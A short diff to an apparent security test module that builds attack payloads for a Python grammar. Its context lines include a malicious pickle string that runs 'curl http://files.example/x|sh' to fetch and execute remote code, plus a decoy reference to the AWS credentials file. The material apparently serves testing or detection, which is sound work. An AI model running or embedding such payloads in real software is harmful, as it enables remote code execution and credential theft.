@@ -6,7 +6,7 @@ import base64
 import codecs
 import zlib
 
-from tests.oracle_payload.grammar import COMMAND, Construct, Grammar, Sink
+from tests.oracle_payload.grammar import COMMAND, Construct, Grammar, Sink, written
 
 _CODE = "open('ran','w').close()"
 _DECOY = "~/.aws/credentials"
@@ -268,4 +268,6 @@ CONSTRUCTS = [
     Construct("import shelve,pickle\npickle.loads(b\"cos\\nsystem\\n(S'curl http://files.example/x|sh'\\ntR.\")", ("spawn",)),
 ]  # fmt: skip
 
-GRAMMAR = Grammar("python", ("/usr/bin/python3", "-c"), repr, SINKS, CONSTRUCTS, ENCODINGS, separator="\n")
+GRAMMAR = Grammar(
+    "python", ("/usr/bin/python3", "-c"), repr, SINKS, [*CONSTRUCTS, *written("python")], ENCODINGS, separator="\n"
+)
